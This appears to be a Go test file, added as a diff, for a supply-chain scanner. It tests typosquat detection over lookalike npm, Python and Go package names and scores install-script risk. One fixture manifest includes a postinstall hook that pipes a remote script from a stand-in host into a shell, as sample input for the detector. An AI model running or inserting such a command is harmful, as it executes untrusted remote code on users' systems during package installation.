@@ -0,0 +1,129 @@
+package analyzer
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestLookalike(t *testing.T) {
+	lists := loadPopularLists()
+	tests := []struct{ fileType, name, intended, heuristic string }{
+		{"npm", "lodahs", "lodash", "edit-distance"},
+		{"npm", "electorn", "electron", "edit-distance"},
+		{"npm", "crossenv", "cross-env", "separator"},
+		{"npm", "rnoment", "moment", "homoglyph"},
+		{"npm", "iodash", "lodash", "homoglyph"},
+		{"npm", "l0dash", "lodash", "homoglyph"},
+		{"npm", "mоment", "moment", "homoglyph"}, // Cyrillic о
+		{"npm", "@bable/core", "@babel/core", "scope"},
+		{"npm", "types-node", "@types/node", "scope"},
+		{"python", "reqeusts", "requests", "edit-distance"},
+		{"python", "python_dateutils", "python-dateutil", "edit-distance"},
+		{"go", "github.com/Sirupsen/logrus", "github.com/sirupsen/logrus", "case"},
+		{"go", "github.com/stretchr/testifi", "github.com/stretchr/testify", "edit-distance"},
+		{"go", "github.com/stretchr/testifi/assert", "github.com/stretchr/testify", "edit-distance"},
+
+		// Popular packages, their subpackages and different short names
+		{"npm", "lodash", "", ""},
+		{"npm", "@types/lodash", "", ""},
+		{"npm", "chai", "", ""},
+		{"python", "Python_Dateutil", "", ""},
+		{"go", "github.com/stretchr/testify/assert", "", ""},
+		{"go", "github.com/spf13/cobra/v2", "", ""},
+		{"go", "gopkg.in/yaml.v3", "", ""},
+		{"go", "golang.org/x/term", "", ""},
+
+		// Established packages that are a near miss of a popular one
+		{"npm", "safer-buffer", "", ""},
+		{"npm", "querystring", "", ""},
+		{"python", "psycopg", "", ""},
+		{"python", "scapy", "", ""},
+		{"python", "Boto", "", ""},
+	}
+	for _, tt := range tests {
+		intended, heuristic := lists[tt.fileType].lookalike(tt.fileType, tt.name)
+		if intended != tt.intended || heuristic != tt.heuristic {
+			t.Errorf("%s %s = %q (%s), want %q (%s)", tt.fileType, tt.name, intended, heuristic, tt.intended, tt.heuristic)
+		}
+	}
+}
+
+func TestEditDistance(t *testing.T) {
+	tests := []struct {
+		a, b string
+		want int
+	}{
+		{"lodash", "lodash", 0},
+		{"lodahs", "lodash", 1},
+		{"lodas", "lodash", 1},
+		{"kitten", "sitting", 3},
+		{"", "abc", 3},
+	}
+	for _, tt := range tests {
+		if got := editDistance(tt.a, tt.b); got != tt.want {
+			t.Errorf("editDistance(%s, %s) = %d, want %d", tt.a, tt.b, got, tt.want)
+		}
+	}
+}
+
+func TestDetectSuspiciousPackages(t *testing.T) {
+	manifest := []byte(`{
+  "name": "app",
+  "scripts": {
+    "build": "tsc",
+    "postinstall": "curl -s https://example.com/setup.sh | sh",
+    "preinstall": "node check.js"
+  },
+  "dependencies": {"lodahs": "^4.17.21", "express": "^4.18.0", "esbuild": "^0.19.0"}
+}`)
+	lock := ParseLockFile("package-lock.json", []byte(`{
+  "lockfileVersion": 3,
+  "packages": {
+    "": {"name": "app"},
+    "node_modules/lodahs": {"version": "4.17.21", "hasInstallScript": true},
+    "node_modules/express": {"version": "4.18.2"},
+    "node_modules/esbuild": {"version": "0.19.12", "hasInstallScript": true},
+    "node_modules/unknown-native": {"version": "1.0.0", "hasInstallScript": true}
+  }
+}`))
+
+	parsed, _ := parsePackageJSON(manifest)
+	deps := &DependencyAnalysis{}
+	deps.AddFiles(DependencyFile{
+		Filename: "package.json", FileType: "npm", Dependencies: parsed,
+		InstallScripts: npmInstallScripts(manifest),
+	})
+	deps.ApplyLockFiles(lock)
+
+	result := DetectSuspiciousPackages(deps)
+	if result.Checked != 3+1 || result.TyposquatCount != 1 || result.InstallScriptCount != 4 {
+		t.Fatalf("result = %+v", result)
+	}
+	first := result.Packages[0]
+	if first.Name != "lodahs" || first.Intended != "lodash" || first.Severity != "CRITICAL" ||
+		!strings.Contains(first.Detail, "runs a script on install") {
+		t.Errorf("typosquat with an install script = %+v", first)
+	}
+
+	severities := make(map[string]string)
+	for _, p := range result.Packages[1:] {
+		if p.Reason != "install-script" {
+			t.Errorf("unexpected finding %+v", p)
+		}
+		key := p.Name
+		if key == "" {
+			key = strings.SplitN(p.Detail, " ", 2)[0]
+		}
+		severities[key] = p.Severity
+	}
+	want := map[string]string{"postinstall": "MEDIUM", "preinstall": "LOW", "esbuild": "LOW", "unknown-native": "MEDIUM"}
+	for key, severity := range want {
+		if severities[key] != severity {
+			t.Errorf("%s severity = %q, want %q (all: %v)", key, severities[key], severity, severities)
+		}
+	}
+
+	if empty := DetectSuspiciousPackages(nil); len(empty.Packages) != 0 {
+		t.Error("nil analysis has no findings")
+	}
+}